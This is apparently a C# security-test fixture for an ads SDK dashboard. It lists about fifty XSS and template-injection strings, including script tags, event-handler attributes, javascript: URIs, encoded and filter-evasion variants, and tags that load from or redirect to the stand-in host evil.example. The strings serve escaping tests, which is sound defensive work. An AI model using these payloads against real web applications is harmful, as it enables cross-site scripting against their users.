namespace PpcAds.Sdk.Dashboard.Tests.Security;

/// <summary>Texts that are markup, script or the end of an attribute wherever they are not escaped.</summary>
internal static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "\"><script>alert(2)</script>", "'><script>alert(3)</script>",
        "</title><script>alert(4)</script>",
        "</textarea><script>alert(5)</script>", "<img src=x onerror=alert(6)>", "\"><img src=x onerror=alert(7)>",
        "<svg onload=alert(8)>",
        "<svg/onload=alert(9)>", "<body onload=alert(10)>", "<iframe src=javascript:alert(11)>",
        "<iframe srcdoc='<script>alert(12)</script>'>",
        "<a href=javascript:alert(13)>x</a>", "javascript:alert(14)", "data:text/html,<script>alert(15)</script>",
        "<math><mtext><script>alert(16)</script>",
        "<object data=javascript:alert(17)>", "<embed src=javascript:alert(18)>", "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>*{display:none}</style>",
        "<form action=//evil.example><input name=a>",
        "<input autofocus onfocus=alert(24)>", "<details open ontoggle=alert(25)>", "<marquee onstart=alert(26)>",
        "<video><source onerror=alert(27)>",
        "<audio src=x onerror=alert(28)>", "\" onmouseover=\"alert(29)", "' onmouseover='alert(30)",
        "\" autofocus onfocus=\"alert(31)",
        "\" style=\"position:fixed", "x\" onclick=alert(33) y=\"", "<!--<script>alert(34)</script>-->",
        "--><script>alert(35)</script>",
        "<![CDATA[<script>alert(36)</script>]]>", "</svg><script>alert(37)</script>", "</bdi><script>alert(38)</script>",
        "</select><img src=x onerror=alert(39)>",
        "</option></select><script>alert(40)</script>", "&lt;script&gt;alert(41)&lt;/script&gt;", "&#60;script&#62;alert(42)",
        "%3Cscript%3Ealert(43)%3C/script%3E",
        "\\u003cscript\\u003ealert(44)", "{{constructor.constructor('alert(45)')()}}", "${alert(46)}", "@(alert(47))",
        "<%= 48 %>", "`-alert(49)-`",
        "</script><script>alert(50)</script>", "<SCRIPT SRC=//evil.example/51.js></SCRIPT>",
        "<scr<script>ipt>alert(52)</scr</script>ipt>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(53)>\">",
    ];
}
